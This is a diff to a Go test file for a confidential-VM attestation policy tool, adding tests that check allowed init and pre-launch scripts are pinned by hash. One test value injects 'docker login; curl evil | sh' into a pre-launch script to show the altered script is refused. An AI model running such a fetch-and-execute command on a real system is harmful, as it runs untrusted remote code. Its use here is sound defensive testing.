@@ -9,6 +9,7 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"github.com/cvmgate/cvmgate/verify"
+	"github.com/cvmgate/cvmgate/verify/compose"
 	"github.com/cvmgate/cvmgate/verify/eventlog"
 )
 
@@ -27,6 +28,12 @@ var reportVariants = []struct {
 	{"upper-case key provider id", func(r *verify.Report) { r.Dstack.Identity.KeyProvider.ID = "ABCDEF" }},
 	{"no compose", func(r *verify.Report) { r.Dstack.Compose = nil }},
 	{"unpinned image", func(r *verify.Report) { r.Dstack.Compose.Services[0].Pinned = false }},
+	{"scripts", func(r *verify.Report) {
+		r.Dstack.Compose = mustParseCompose(withPinned(`,"init_script":["a","b","a"],"pre_launch_script":"docker login"`))
+	}},
+	{"scripts and an include", func(r *verify.Report) {
+		r.Dstack.Compose = mustParseCompose(`{"runner":"docker-compose","pre_launch_script":"x","docker_compose_file":"include: [a]\n"}`)
+	}},
 	{"no app id", func(r *verify.Report) { r.Dstack.Identity.AppID = nil }},
 	{"no app identity", func(r *verify.Report) { r.Dstack.Identity = eventlog.Identity{} }},
 	{"key provider none", func(r *verify.Report) { r.Dstack.Identity.KeyProvider = &eventlog.KeyProvider{Name: "none", ID: ""} }},
@@ -106,6 +113,36 @@ func TestFromReportFields(t *testing.T) {
 	r.Dstack.Identity.AppID[0] = 0
 	assert.Equal(t, Hex(fill(0x11, 48)), p.Platform[0].MRTD)
 	assert.Equal(t, Hex(fill(0x44, 20)), p.App.AppIDs[0])
+}
+
+// TestFromReportScripts: the policy made from a CVM that carries scripts
+// lists each once, so that require_pinned_images holds, and lists none when
+// something else keeps the images from being shown pinned.
+func TestFromReportScripts(t *testing.T) {
+	r := testReport()
+	r.Dstack.Compose = mustParseCompose(withPinned(`,"init_script":["a","b","a"],"pre_launch_script":"docker login"`))
+	p, err := FromReport(r)
+	require.NoError(t, err)
+	assert.True(t, p.App.RequirePinnedImages)
+	assert.Equal(t, []AllowedScript{allowed(compose.ScriptInit, "a"), allowed(compose.ScriptInit, "b"), allowed(compose.ScriptPreLaunch, "docker login")}, p.App.AllowedScripts)
+	data, err := p.Marshal()
+	require.NoError(t, err)
+	assert.Contains(t, string(data), "  allowed_scripts:\n    - kind: init_script\n      sha256: \""+sha256Hex("a")+"\"\n")
+	assert.Contains(t, string(data), "# app.allowed_scripts is the exception")
+
+	r.Dstack.Compose.AllowedEnvs = []string{"BASH_ENV"}
+	p, err = FromReport(r)
+	require.NoError(t, err)
+	assert.False(t, p.App.RequirePinnedImages)
+	assert.Nil(t, p.App.AllowedScripts)
+
+	// Another text of a listed script is refused.
+	r = testReport()
+	r.Dstack.Compose = mustParseCompose(withPinned(`,"pre_launch_script":"docker login"`))
+	p, err = FromReport(r)
+	require.NoError(t, err)
+	r.Dstack.Compose = mustParseCompose(withPinned(`,"pre_launch_script":"docker login; curl evil | sh"`))
+	requireViolations(t, p.Check(r), "app.require_pinned_images")
 }
 
 // TestFromReportIsStrict: the generated policy refuses a CVM that differs
